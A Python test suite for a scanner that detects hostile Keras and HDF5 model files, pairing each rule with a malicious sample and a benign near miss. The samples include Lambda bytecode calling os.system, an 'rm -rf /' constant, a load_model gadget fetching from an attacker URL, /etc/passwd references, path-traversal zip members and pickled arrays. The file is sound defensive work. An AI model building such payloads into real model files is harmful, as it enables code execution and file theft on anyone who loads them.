"""Security rules: one hostile file per rule that triggers it, one near miss that must not, canaries."""

from __future__ import annotations

import builtins
import copy
import importlib
import json
import marshal
import os
import pickle
import sys
import types
import uuid
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from modelgraph.validate import security
from modelgraph.validate.issue import Issue, at_least, max_severity, severity_rank, sort_issues
from modelgraph.validate.security import RULES, preview_bytecode, scan_config, scan_container, scan_path

sys.path.insert(0, str(Path(__file__).resolve().parent))
import _hostile as H  # noqa: E402


def rules(issues: list[Issue]) -> list[str]:
    return sorted(i.rule for i in issues)


def only(issues: list[Issue], rule: str) -> list[Issue]:
    return [i for i in issues if i.rule == rule]


@pytest.fixture(autouse=True)
def _no_code_loading(monkeypatch: pytest.MonkeyPatch) -> None:
    """Fail loudly if modelgraph code ever loads marshal/pickle data or imports a module by name.

    Python's own import machinery calls marshal.loads for .pyc files, so only calls made directly from
    a ``modelgraph`` module are refused; everything else is passed through.
    """

    def guard(original: Any) -> Any:
        def wrapper(*args: Any, **kwargs: Any) -> Any:
            caller = sys._getframe(1).f_globals.get("__name__", "")
            if caller.startswith("modelgraph"):
                raise AssertionError(f"{caller} attempted {original.__name__}")
            return original(*args, **kwargs)

        return wrapper

    monkeypatch.setattr(marshal, "loads", guard(marshal.loads))
    monkeypatch.setattr(pickle, "loads", guard(pickle.loads))
    monkeypatch.setattr(pickle, "load", guard(pickle.load))
    monkeypatch.setattr(importlib, "import_module", guard(importlib.import_module))


CLEAN = H.functional([H.dense("d1"), H.dense("d2")])


# --- Issue ----------------------------------------------------------------------------------------


def test_issue_type_and_severity_helpers() -> None:
    a = Issue("SEC001", "error", "m", "$.x", path="f.keras")
    b = Issue("SEC010", "info", "m", "$.y")
    assert str(a) == "f.keras: error SEC001 at $.x: m"
    assert severity_rank("error") > severity_rank("warning") > severity_rank("info")
    assert at_least("error", "warning") and not at_least("info", "warning")
    assert max_severity([b, a]) == "error" and max_severity([]) is None
    assert sort_issues([b, a]) == [a, b]
    assert b.with_path("p").path == "p"
    with pytest.raises(ValueError):
        Issue("X", "fatal", "m", "w")  # type: ignore[arg-type]
    with pytest.raises(AttributeError):
        a.rule = "other"  # type: ignore[misc]


def test_rule_table_is_consistent() -> None:
    assert all(sev in ("error", "warning", "info") for sev, _ in RULES.values())
    assert all(r.startswith("SEC0") or r.startswith("SEC1") for r in RULES)


# --- clean near-misses ----------------------------------------------------------------------------


def test_clean_keras3_config_has_no_findings() -> None:
    assert scan_config(CLEAN) == []


def test_clean_keras_zip_and_legacy_h5_have_no_findings(tmp_path: Path) -> None:
    weights = H.h5_bytes(H.plain_weights_h5, tmp_path)
    z = H.keras_zip(
        tmp_path / "ok.keras", CLEAN, weights=weights, extra={"assets/vocab/vocabulary.txt": b"a\nb"}
    )
    assert scan_path(z) == []
    training = {
        "loss": "mse",
        "optimizer_config": {"class_name": "Custom>Adam", "config": {"learning_rate": 0.1}},
    }
    h = H.legacy_h5(tmp_path / "ok.h5", {"class_name": "Sequential", "config": {"layers": []}}, training)
    assert scan_path(h) == []
    j = tmp_path / "ok.json"
    j.write_text(json.dumps(CLEAN))
    assert scan_path(j) == []


def test_findings_carry_file_path(tmp_path: Path) -> None:
    cfg = H.functional([H.keras3_lambda("lam", H.lambda_code("lambda x: x"))])
    j = tmp_path / "m.json"
    j.write_text(json.dumps(cfg))
    issues = scan_path(j)
    assert rules(issues) == ["SEC001"]
    assert issues[0].path == str(j)


# --- SEC001 / SEC002 Lambda bytecode --------------------------------------------------------------


def test_sec001_keras2_lambda_with_preview() -> None:
    code = H.lambda_code("lambda x: __import__('os').system('echo pwned') or x * 2")
    cfg = {"class_name": "Model", "config": {"layers": [H.keras2_lambda("lam", code)]}}
    (issue,) = scan_config(cfg)
    assert issue.rule == "SEC001" and issue.severity == "error"
    assert issue.where == "$.config.layers[0].config.function"
    assert "layer 'lam'" in issue.message
    assert "'echo pwned'" in issue.message and "SUSPICIOUS" in issue.message and "system" in issue.message


def test_sec001_keras3_lambda_nested_in_wrappers_and_submodels() -> None:
    code = H.lambda_code("lambda x: x + 1")
    inner = H.functional([H.keras3_lambda("deep_lam", code)], name="inner")
    td = {
        "module": "keras.layers",
        "class_name": "TimeDistributed",
        "config": {"name": "td", "layer": H.keras3_lambda("td_lam", code)},
        "registered_name": None,
    }
    bidi = {
        "class_name": "Bidirectional",
        "config": {
            "name": "bi",
            "layer": {"class_name": "LSTM", "config": {}},
            "backward_layer": H.keras2_lambda("bw", code),
        },
    }
    cfg = H.functional([inner, td, bidi])
    issues = scan_config(cfg)
    assert rules(issues) == ["SEC001", "SEC001", "SEC001"]
    assert {i.where for i in issues} == {
        "$.config.layers[1].config.layers[1].config.function",
        "$.config.layers[2].config.layer.config.function",
        "$.config.layers[3].config.backward_layer.config.function",
    }


def test_sec001_keras1_raw_unicode_escape_and_output_shape() -> None:
    code = H.lambda_code("lambda x: x")
    shape_code = H.lambda_code("lambda s: s")
    cfg = {
        "class_name": "Lambda",
        "config": {
            "name": "k1",
            "function": [H.keras1_bytecode(code), None, None],
            "function_type": "lambda",
            "output_shape": [H.b64_bytecode(shape_code), None, None],
            "output_shape_type": "lambda",
        },
    }
    issues = scan_config(cfg)
    assert rules(issues) == ["SEC001", "SEC001"]
    assert "raw_unicode_escape" in issues[0].message and "base64" in issues[1].message


def test_sec001_near_miss_lambda_with_raw_output_shape() -> None:
    cfg = {
        "class_name": "Lambda",
        "config": {
            "name": "l",
            "function": "my_fn",
            "function_type": "function",
            "module": "mylib",
            "output_shape": [4],
            "output_shape_type": "raw",
        },
    }
    assert rules(scan_config(cfg)) == ["SEC004"]


def test_sec002_lambda_outside_lambda_layer() -> None:
    code = H.lambda_code("lambda y_true, y_pred: y_pred")
    cfg = copy.deepcopy(CLEAN)
    cfg["compile_config"]["loss"] = {
        "class_name": "__lambda__",
        "config": {"value": [H.b64_bytecode(code), None, None]},
    }
    cfg["config"]["layers"][1]["config"]["activation"] = {
        "class_name": "__lambda__",
        "config": {"code": H.b64_bytecode(code)},
    }
    issues = scan_config(cfg)
    assert rules(issues) == ["SEC002", "SEC002"]
    assert {i.where for i in issues} == {"$.compile_config.loss", "$.config.layers[1].config.activation"}
    assert all("y_pred" in i.message for i in issues)


# --- marshal preview ------------------------------------------------------------------------------


def test_preview_real_bytecode_names_constants_nested() -> None:
    code = H.lambda_code("lambda x: [open('/tmp/f').read() for _ in x] or 3.5")
    p = preview_bytecode(H.b64_bytecode(code))
    assert p.complete and p.python == "3.11+" and p.encoding == "base64"
    assert p.code is not None and p.code.name == "<lambda>"
    assert "open" in p.all_names() and "read" in p.all_names()
    assert "/tmp/f" in [k for c in p.code.walk() for k in c.constants]
    assert 3.5 in p.code.constants
    assert "open" in p.suspicious()


@pytest.mark.parametrize(("layout", "python"), [("py38", "3.8-3.10"), ("py37", "3.0-3.7"), ("py27", "2.x")])
def test_preview_legacy_layouts(layout: str, python: str) -> None:
    blob = H.legacy_marshal_code(
        layout, name="<lambda>", names=["os", "system"], varnames=["x"], consts=[H._z("rm -rf /"), b"N"]
    )
    p = preview_bytecode(blob)
    assert p.complete, p.error
    assert p.python == python
    assert p.code is not None and p.code.name == "<lambda>"
    assert p.code.names == ["os", "system"] and p.code.varnames == ["x"]
    assert p.code.constants == ["rm -rf /"]


def test_preview_stops_on_truncation_and_garbage_keeping_partial_results() -> None:
    raw = marshal.dumps(H.lambda_code("lambda x: x.system('a')"))
    partial = preview_bytecode(raw[: len(raw) - 20])
    assert not partial.complete and "truncated" in partial.error, partial.error
    assert partial.code is not None and "system" in partial.code.names
    garbage = preview_bytecode(b"c" + b"\xff" * 64)
    assert not garbage.complete and garbage.error
    assert preview_bytecode("not bytecode at all").code is None
    bad_type = preview_bytecode(raw[:30] + b"\x01" + raw[31:])
    assert isinstance(bad_type.summary(), str)


def test_preview_bounds_depth_and_size() -> None:
    deep = b"c" + b")\x01" * 10_000
    assert "unrecognised" in preview_bytecode(deep).error or "deeper" in preview_bytecode(deep).error
    nested_tuples = bytes([ord("c") | 0x80]) + b"\x00" * 20 + b"s\x00\x00\x00\x00" + b")\x01" * 100 + b"N"
    p = preview_bytecode(nested_tuples)
    assert not p.complete and "deeper than" in p.error
    huge = preview_bytecode(b"c" + b"\x00" * (security.MAX_BYTECODE_BYTES + 10))
    assert not huge.complete


# --- SEC003 / SEC004 modules and custom objects ---------------------------------------------------


def test_sec003_module_outside_keras_namespaces() -> None:
    cfg = copy.deepcopy(CLEAN)
    cfg["config"]["layers"][1]["module"] = "os"
    cfg["config"]["layers"][2]["config"]["kernel_initializer"]["module"] = "evilpkg.init"
    issues = scan_config(cfg)
    assert rules(issues) == ["SEC003", "SEC003"]
    assert "dangerous module" in issues[0].message
    assert issues[1].where == "$.config.layers[2].config.kernel_initializer.module"


def test_sec003_near_miss_keras_family_modules() -> None:
    cfg = copy.deepcopy(CLEAN)
    for i, mod in enumerate(["keras_hub.layers", "tf_keras.layers"], start=1):
        cfg["config"]["layers"][i]["module"] = mod
    cfg["config"]["layers"].append(
        {
            "module": "keras.src.applications.convnext",
            "class_name": "LayerScale",
            "config": {"name": "ls"},
            "registered_name": "LayerScale",
        }
    )
    assert scan_config(cfg) == []


def test_sec004_custom_objects() -> None:
    custom = {
        "module": None,
        "class_name": "MyLayer",
        "config": {"name": "my", "k": 3},
        "registered_name": "mypkg>MyLayer",
    }
    fn = {"module": "builtins", "class_name": "function", "config": "my_fn", "registered_name": "function"}
    legacy = {"class_name": "Addons>GroupNormalization", "config": {"name": "gn"}}
    issues = scan_config({"layers": [custom, fn, legacy]})
    assert rules(issues) == ["SEC004", "SEC004", "SEC004"]
    assert "mypkg>MyLayer" in issues[0].message


# --- SEC005 / SEC006 ------------------------------------------------------------------------------


def test_sec005_torch_module_wrapper_and_sec006_tfsmlayer() -> None:
    torch = {
        "module": "keras.layers",
        "class_name": "TorchModuleWrapper",
        "config": {"name": "t", "module": "gASVAAAA/x/y"},
    }
    tfsm = {
        "module": "keras.layers",
        "class_name": "TFSMLayer",
        "config": {"name": "s", "filepath": "/models/saved"},
    }
    issues = scan_config(H.functional([torch, tfsm]))
    assert rules(issues) == ["SEC005", "SEC006"]
    assert "'/models/saved'" in issues[1].message


# --- SEC007 gadgets -------------------------------------------------------------------------------


def test_sec007_load_model_gadget_cve_2025_8747_pattern() -> None:
    lam = {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {
            "name": "g",
            "function": {
                "module": "keras.models",
                "class_name": "function",
                "config": "load_model",
                "registered_name": "function",
            },
            "arguments": {"filepath": "https://evil.example/m.keras", "safe_mode": False},
        },
    }
    issues = scan_config(H.functional([lam]))
    assert rules(issues) == ["SEC007", "SEC007", "SEC013"]
    assert any("keras.models.load_model" in i.message for i in issues)


@pytest.mark.parametrize(
    "ref",
    [
        {"module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization"},
        {"module": "keras.utils", "class_name": "function", "config": "get_file"},
        {"module": "keras.saving", "class_name": "function", "config": "load_weights"},
        {"module": "keras.utils", "class_name": "function", "config": "load_img"},
        {"module": "builtins", "class_name": "function", "config": "exec"},
        "keras.saving.load_model",
    ],
)
def test_sec007_gadget_variants(ref: Any) -> None:
    cfg = copy.deepcopy(CLEAN)
    cfg["config"]["layers"][1]["config"]["activation"] = ref
    assert "SEC007" in rules(scan_config(cfg))


def test_sec007_tf_keras_lambda_named_function_from_os() -> None:
    cfg = {
        "class_name": "Lambda",
        "config": {"name": "l", "function": "system", "function_type": "function", "module": "os"},
    }
    assert rules(scan_config(cfg)) == ["SEC007"]


def test_sec007_near_miss_keras_function_refs() -> None:
    cfg = copy.deepcopy(CLEAN)
    cfg["config"]["layers"][1]["config"]["activation"] = {
        "module": "keras.activations",
        "class_name": "function",
        "config": "relu",
        "registered_name": "function",
    }
    assert scan_config(cfg) == []


# --- SEC008 / SEC013 paths ------------------------------------------------------------------------


def test_sec008_vocabulary_path_and_near_miss_inline_list() -> None:
    lookup = {
        "module": "keras.layers",
        "class_name": "StringLookup",
        "config": {"name": "sl", "vocabulary": "/etc/passwd"},
    }
    url = {
        "module": "keras.layers",
        "class_name": "TextVectorization",
        "config": {"name": "tv", "vocabulary": "https://x.example/v.txt"},
    }
    inline = {
        "module": "keras.layers",
        "class_name": "StringLookup",
        "config": {"name": "ok", "vocabulary": ["a", "b"]},
    }
    issues = scan_config(H.functional([lookup, url, inline]))
    assert rules(issues) == ["SEC008", "SEC008"]


@pytest.mark.parametrize(
    "value", ["/home/u/data.bin", "s3://bucket/key", "file:///etc/passwd", "C:\\x\\y", "~/model", "a/../../b"]
)
def test_sec013_path_like_values(value: str) -> None:
    cfg = copy.deepcopy(CLEAN)
    cfg["config"]["layers"][1]["config"]["extra"] = value
    assert rules(scan_config(cfg)) == ["SEC013"]


@pytest.mark.parametrize(
    "value", ["relu", "channels_last", "tf.math.multiply", "a/b", "1/2", "glorot_uniform", "same"]
)
def test_sec013_near_misses(value: str) -> None:
    cfg = copy.deepcopy(CLEAN)
    cfg["config"]["layers"][1]["config"]["extra"] = value
    assert scan_config(cfg) == []


# --- SEC009 / SEC010 / SEC011 / SEC012 ------------------------------------------------------------


def test_sec009_legacy_merge_lambda_and_near_miss() -> None:
    code = H.lambda_code("lambda xs: xs[0] - xs[1]")
    merge = {
        "class_name": "Merge",
        "config": {"name": "m", "mode": [H.keras1_bytecode(code), None, None], "mode_type": "lambda"},
    }
    fmerge = {"class_name": "Merge", "config": {"name": "m2", "mode": "myfn", "mode_type": "function"}}
    raw = {"class_name": "Merge", "config": {"name": "m3", "mode": "sum", "mode_type": "raw"}}
    issues = scan_config({"class_name": "Sequential", "config": [merge, fmerge, raw]})
    assert rules(issues) == ["SEC009", "SEC009"]
    assert "xs" in issues[0].message


def test_sec010_tfoplambda_is_info() -> None:
    op = {"class_name": "TFOpLambda", "config": {"name": "tf.math.multiply", "function": "math.multiply"}}
    (issue,) = scan_config({"config": {"layers": [op]}})
    assert (issue.rule, issue.severity) == ("SEC010", "info")
    assert "math.multiply" in issue.message


def test_sec011_training_true_in_nodes_both_schemas() -> None:
    k2 = {
        "class_name": "Dropout",
        "config": {"name": "dr"},
        "inbound_nodes": [[["in", 0, 0, {"training": True}]]],
    }
    k3 = H.dense("d3")
    k3["inbound_nodes"][0]["kwargs"] = {"training": True}
    near = H.dense("d4")
    near["inbound_nodes"][0]["kwargs"] = {"training": False}
    near["config"]["training"] = True  # not a node argument
    issues = scan_config(H.functional([k2, k3, near]))
    assert rules(issues) == ["SEC011", "SEC011"]
    assert {i.where for i in issues} == {
        "$.config.layers[1].inbound_nodes[0][0][3].training",
        "$.config.layers[2].inbound_nodes[0].kwargs.training",
    }


def test_sec012_nonfinite_numbers() -> None:
    cfg = copy.deepcopy(CLEAN)
    cfg["config"]["layers"][1]["config"]["epsilon"] = float("nan")
    cfg["config"]["layers"][2]["config"]["clip"] = [1.0, float("-inf")]
    issues = scan_config(cfg)
    assert rules(issues) == ["SEC012", "SEC012"]
    assert scan_config({"eps": 1e-3, "big": 1e300}) == []


def test_scan_config_collects_everything_and_survives_deep_nesting() -> None:
    node: Any = {"class_name": "TFSMLayer", "config": {"filepath": "x"}}
    for _ in range(50_000):
        node = [node]
    code = H.lambda_code("lambda x: x")
    issues = scan_config({"a": node, "b": [H.keras2_lambda(f"l{i}", code) for i in range(30)]})
    assert rules(issues).count("SEC001") == 30 and "SEC006" in rules(issues)


# --- container rules ------------------------------------------------------------------------------


def test_sec101_traversal_and_near_miss(tmp_path: Path) -> None:
    z = H.write_zip(tmp_path / "t.keras", {"config.json": b"{}", "../evil": b"x", "assets/..ok": b""})
    assert rules(scan_container(z)) == ["SEC101", "SEC106"]


def test_sec102_symlink_member(tmp_path: Path) -> None:
    assert "SEC102" in rules(scan_container(H.symlink_zip(tmp_path / "s.keras")))


def test_sec103_zip_bombs(tmp_path: Path) -> None:
    issues = scan_container(H.declared_size_bomb(tmp_path / "b.keras"))
    assert rules(issues) == ["SEC103"]
    assert issues[0].where == "model.weights.h5"
    assert rules(scan_container(H.many_members_zip(tmp_path / "m.keras"))) == ["SEC103"]


def test_sec104_duplicate_member(tmp_path: Path) -> None:
    assert rules(scan_container(H.duplicate_zip(tmp_path / "d.keras"))) == ["SEC104"]


def test_sec105_sec106_unexpected_members(tmp_path: Path) -> None:
    extra = {
        "evil.py": b"import os",
        "assets/x.so": b"\x7fELF",
        "weights.pkl": b"\x80\x04",
        "README.md": b"hi",
    }
    z = H.keras_zip(tmp_path / "u.keras", CLEAN, extra=extra)
    assert rules(scan_container(z)) == ["SEC105", "SEC105", "SEC105", "SEC106"]


def test_sec107_npz_pickle_and_near_miss(tmp_path: Path) -> None:
    bad = H.keras_zip(tmp_path / "p.keras", CLEAN, npz=H.pickled_npz(tmp_path, str(tmp_path / "never")))
    issues = scan_container(bad)
    assert rules(issues) == ["SEC107"]
    assert issues[0].where == "model.weights.npz:layers/dense.npy"
    ok = H.keras_zip(tmp_path / "n.keras", CLEAN, npz=H.npz_bytes(tmp_path, {"layers/dense": np.ones(3)}))
    assert scan_container(ok) == []


@pytest.mark.parametrize(
    ("builder", "expected"),
    [
        (H.external_link_h5, ["SEC108"]),
        (H.soft_cycle_h5, ["SEC110", "SEC110", "SEC110"]),
        (H.soft_link_h5, ["SEC109"]),
        (H.virtual_dataset_h5, ["SEC112"]),
        (H.shape_bomb_h5, ["SEC113"]),
        (H.plain_weights_h5, []),
    ],
)
def test_sec108_to_sec113_hdf5_in_zip_and_standalone(
    tmp_path: Path, builder: Any, expected: list[str]
) -> None:
    standalone = builder(tmp_path / "w.weights.h5")
    assert rules(scan_container(standalone)) == expected
    z = H.keras_zip(tmp_path / "w.keras", CLEAN, weights=standalone.read_bytes())
    issues = scan_container(z)
    assert rules(issues) == expected
    assert all(i.where.startswith("model.weights.h5:/") for i in issues)


def test_sec111_external_dataset(tmp_path: Path) -> None:
    h = H.external_dataset_h5(tmp_path / "x.h5", tmp_path / "raw.bin")
    issues = scan_container(h)
    assert rules(issues) == ["SEC111"]
    assert "raw.bin" in issues[0].message


def test_sec114_json_bombs(tmp_path: Path) -> None:
    z = H.keras_zip(tmp_path / "d.keras", None, config_text=H.deep_json())
    assert rules(scan_path(z)) == ["SEC114"]
    j = tmp_path / "d.json"
    j.write_text(H.deep_json())
    assert rules(scan_path(j)) == ["SEC114"]
    h = H.legacy_h5(tmp_path / "d.h5", {"class_name": "Model"})
    import h5py

    with h5py.File(h, "a") as f:
        f.attrs["model_config"] = H.deep_json(5000)
    assert rules(scan_path(h)) == ["SEC114"]


def test_sec115_raw_text_gadget(tmp_path: Path) -> None:
    text = json.dumps(CLEAN).replace(
        '"loss": "mean_squared_error"', '"loss": "enable_unsafe_deserialization"'
    )
    z = H.keras_zip(tmp_path / "r.keras", None, config_text=text)
    assert rules(scan_path(z)) == ["SEC007", "SEC115"]
    escaped = text.replace(
        "enable_unsafe", "\\u0065nable_unsafe"
    )  # escaped: raw text misses, parsed walk finds it
    z2 = H.keras_zip(tmp_path / "r2.keras", None, config_text=escaped)
    assert rules(scan_path(z2)) == ["SEC007"]


def test_sec100_corrupt_files_are_findings_not_crashes(tmp_path: Path) -> None:
    junk = tmp_path / "j.keras"
    junk.write_bytes(b"\x00garbage")
    assert rules(scan_container(junk)) == ["SEC100"]
    badjson = H.keras_zip(tmp_path / "b.keras", None, config_text='{"a": ')
    assert rules(scan_path(badjson)) == ["SEC100"]


def test_unzipped_keras_directory(tmp_path: Path) -> None:
    d = tmp_path / "model"
    d.mkdir()
    (d / "config.json").write_text(
        json.dumps(H.functional([H.keras3_lambda("l", H.lambda_code("lambda x: x"))]))
    )
    H.plain_weights_h5(d / "model.weights.h5")
    (d / "hook.py").write_text("import os")
    os.symlink("/etc/passwd", d / "metadata.json")
    assert rules(scan_path(d)) == ["SEC001", "SEC102", "SEC105"]


# --- canaries -------------------------------------------------------------------------------------


def test_canary_lambda_bytecode_is_never_executed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    canary = tmp_path / "lambda.canary"
    code = H.lambda_code(f"lambda x: open({str(canary)!r}, 'w').close() or x")
    k2 = H.keras2_lambda("lam", code)
    k3 = H.keras3_lambda("lam3", code)
    cfg = H.functional([k2, k3])
    cfg["compile_config"]["loss"] = {"class_name": "__lambda__", "config": {"code": H.b64_bytecode(code)}}
    z = H.keras_zip(tmp_path / "c.keras", cfg, weights=H.h5_bytes(H.plain_weights_h5, tmp_path))
    h = H.legacy_h5(tmp_path / "c.h5", {"class_name": "Model", "config": {"layers": [k2]}})
    issues = scan_config(cfg) + scan_path(z) + scan_path(h)
    assert rules(issues).count("SEC001") == 5 and rules(issues).count("SEC002") == 2
    assert all("SUSPICIOUS ['open']" in i.message for i in issues)
    assert not canary.exists()
    # positive control (test code only): the canary is live
    monkeypatch.undo()
    types.FunctionType(marshal.loads(marshal.dumps(code)), {"open": builtins.open})(1)
    assert canary.exists()


def test_canary_module_reference_is_never_imported(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    canary = tmp_path / "module.canary"
    modname = f"mg_canary_{uuid.uuid4().hex}"
    (tmp_path / f"{modname}.py").write_text(
        f"open({str(canary)!r}, 'w').close()\nclass Evil: pass\ndef boom(): pass\n"
    )
    monkeypatch.syspath_prepend(str(tmp_path))
    refs = [
        {"module": modname, "class_name": "Evil", "config": {"name": "e"}, "registered_name": None},
        {"module": modname, "class_name": "function", "config": "boom", "registered_name": "function"},
    ]
    cfg = H.functional(refs)
    z = H.keras_zip(tmp_path / "m.keras", cfg)
    issues = scan_config(cfg) + scan_path(z)
    assert rules(issues).count("SEC003") == 4
    assert modname not in sys.modules
    assert not canary.exists()
    monkeypatch.undo()
    sys.path.insert(0, str(tmp_path))  # positive control: importing it does touch the canary
    try:
        importlib.invalidate_caches()
        importlib.import_module(modname)
    finally:
        sys.path.remove(str(tmp_path))
        sys.modules.pop(modname, None)
    assert canary.exists()


def test_canary_npz_pickle_is_never_unpickled(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    canary = tmp_path / "npz.canary"
    data = H.pickled_npz(tmp_path, str(canary))
    z = H.keras_zip(tmp_path / "p.keras", CLEAN, npz=data)
    assert rules(scan_path(z)) == ["SEC107"]
    assert not canary.exists()
    monkeypatch.undo()
    npz = tmp_path / "w.npz"
    npz.write_bytes(data)
    with np.load(npz, allow_pickle=True) as f:  # positive control
        f["layers/dense"]
    assert canary.exists()


# --- SEC116: npz pickles that only rebuild NumPy arrays (added by the validate work) ---------------


def test_pickle_verdict_reads_opcodes_only() -> None:
    import pickle as _pickle

    assert security.pickle_verdict(_pickle.dumps(np.arange(3), protocol=4)) == "numpy-only"
    assert security.pickle_verdict(_pickle.dumps({"a": [np.ones(2)], "b": 1.0}, protocol=4)) == "numpy-only"
    assert security.pickle_verdict(_pickle.dumps(os.system, protocol=2)) == "unsafe"
    assert security.pickle_verdict(_pickle.dumps({"x": print}, protocol=4)) == "unsafe"
    assert security.pickle_verdict(b"\x80\x04garbage") == "unsafe"
    assert security.pickle_verdict(b"") == "unsafe"


def test_sec116_numpy_only_npz_is_a_warning_and_hostile_one_stays_sec107(tmp_path: Path) -> None:
    arr = np.empty((), dtype=object)
    arr[()] = {"0": np.ones((2, 2), "f4")}
    z = H.keras_zip(tmp_path / "np.keras", CLEAN, npz=H.npz_bytes(tmp_path, {"layers/dense": arr}))
    assert rules(scan_path(z)) == ["SEC116"]
    assert all(i.severity == "warning" for i in scan_path(z))
    canary = str(tmp_path / "canary_dir")
    hostile = H.keras_zip(tmp_path / "bad.keras", CLEAN, npz=H.pickled_npz(tmp_path, canary))
    assert rules(scan_path(hostile)) == ["SEC107"]
    assert not os.path.exists(canary)


def test_sec117_crc_mismatch_and_local_name_and_near_miss(tmp_path: Path) -> None:
    """A stored member's byte flipped (its CRC now wrong) and a local header naming another member
    than the central directory: Keras (zipfile) refuses both archives; the unaltered one is clean."""
    import zipfile

    clean = tmp_path / "clean.keras"
    with zipfile.ZipFile(clean, "w") as zf:  # stored, as Keras writes .keras archives
        zf.writestr("config.json", json.dumps(H.functional([H.dense("d")])))
        zf.writestr("metadata.json", json.dumps({"keras_version": "3.15.1"}))
    assert not only(scan_container(clean), "SEC117")
    data = clean.read_bytes()
    flipped = tmp_path / "flipped.keras"
    at = data.index(b'"class_name"')
    flipped.write_bytes(data[:at] + b"'" + data[at + 1 :])
    found = only(scan_container(flipped), "SEC117")
    assert len(found) == 1 and "config.json" in found[0].message and "CRC-32" in found[0].message
    renamed = tmp_path / "renamed.keras"
    renamed.write_bytes(data.replace(b"metadata.json", b"metadataXjson", 1))
    found = only(scan_container(renamed), "SEC117")
    assert len(found) == 1 and "metadataXjson" in found[0].message


@pytest.mark.parametrize(
    "obj",
    [
        {
            "module": "keras.utils",
            "class_name": "get_file",
            "config": {"origin": "https://x"},
            "registered_name": None,
        },
        {"module": "keras.models", "class_name": "load_model", "config": {}, "registered_name": None},
        {"module": "keras.config", "class_name": "enable_unsafe_deserialization", "config": {}},
        {
            "module": None,
            "class_name": "GlorotUniform",
            "config": {},
            "registered_name": "keras.utils>get_file",
        },
    ],
)
@pytest.mark.parametrize("field", ["kernel_initializer", "kernel_regularizer", "kernel_constraint", "nested"])
def test_sec007_gadget_objects_anywhere_are_errors(obj: dict, field: str) -> None:
    """A {module, class_name} / registered_name object naming a gadget is an error in any field Keras
    deserialises, not only in a function field."""
    if field == "nested":
        layer = H.dense(
            "d", kernel_initializer={"class_name": "VarianceScaling", "config": {"inner": {"x": [obj]}}}
        )
    else:
        layer = H.dense("d", **{field: obj})
    found = only(scan_config(H.functional([layer])), "SEC007")
    assert len(found) == 1 and found[0].severity == "error", scan_config(H.functional([layer]))


def test_sec007_near_miss_keras_objects_are_not_gadgets() -> None:
    layer = H.dense(
        "d",
        kernel_initializer={"module": "keras.initializers", "class_name": "GlorotUniform", "config": {}},
        kernel_regularizer={"module": "keras.regularizers", "class_name": "L2", "config": {"l2": 0.01}},
    )
    assert not only(scan_config(H.functional([layer])), "SEC007")


def test_sec118_hdf5_structure_bounds_and_near_miss(tmp_path: Path) -> None:
    """A legacy layer_names listing one name twice, and groups nested past the depth bound; the
    tf_keras sample itself is clean."""
    import shutil

    import h5py

    sample = Path(__file__).resolve().parents[2] / "samples" / "k2" / "cnn.h5"
    assert not only(scan_container(sample), "SEC118")
    dup = tmp_path / "dup.h5"
    shutil.copy(sample, dup)
    with h5py.File(dup, "r+") as f:
        names = list(f["model_weights"].attrs["layer_names"])
        f["model_weights"].attrs["layer_names"] = np.array([*names, names[1]], dtype="S")
    found = only(scan_container(dup), "SEC118")
    assert len(found) == 1 and "2 times" in found[0].message
    deep = tmp_path / "deep.h5"
    shutil.copy(sample, deep)
    with h5py.File(deep, "r+") as f:
        group = f.create_group("x")
        for _ in range(100):
            group = group.create_group("g")
    found = only(scan_container(deep), "SEC118")
    assert len(found) == 1 and "nested deeper" in found[0].message


def _lambda_model() -> dict:
    return H.functional([H.keras3_lambda("evil", H.lambda_code("lambda x: __import__('os').system('id')"))])


def test_sec119_polyglots_are_errors_and_both_parts_are_scanned(tmp_path: Path) -> None:
    """An HDF5 model followed by a .keras zip (zipfile, so Keras with a .keras name, reads the zip)
    and a .keras zip in an HDF5 user block (h5py reads the HDF5 after it): each is SEC119, and the
    Lambda hidden in the part the other reader would use is found (SEC001)."""
    import h5py

    clean_h5 = H.legacy_h5(tmp_path / "clean.h5", {"class_name": "Sequential", "config": {"layers": []}})
    evil_zip = H.keras_zip(tmp_path / "evil.keras", _lambda_model())
    appended = tmp_path / "appended.h5"
    appended.write_bytes(clean_h5.read_bytes() + evil_zip.read_bytes())
    found = scan_path(appended)
    assert "SEC119" in rules(found) and "SEC001" in rules(found), rules(found)

    clean_zip = H.keras_zip(tmp_path / "clean.keras", CLEAN)
    zip_bytes = clean_zip.read_bytes()
    block = 512
    while block < len(zip_bytes):
        block *= 2
    hidden = tmp_path / "userblock.keras"
    with h5py.File(hidden, "w", userblock_size=block) as f:
        f.attrs["model_config"] = json.dumps(_lambda_model())
    with open(hidden, "r+b") as fh:
        fh.write(zip_bytes)
    found = scan_path(hidden)
    assert "SEC119" in rules(found) and "SEC001" in rules(found), rules(found)

    assert "SEC119" not in rules(scan_path(clean_zip)) and "SEC119" not in rules(scan_path(clean_h5))
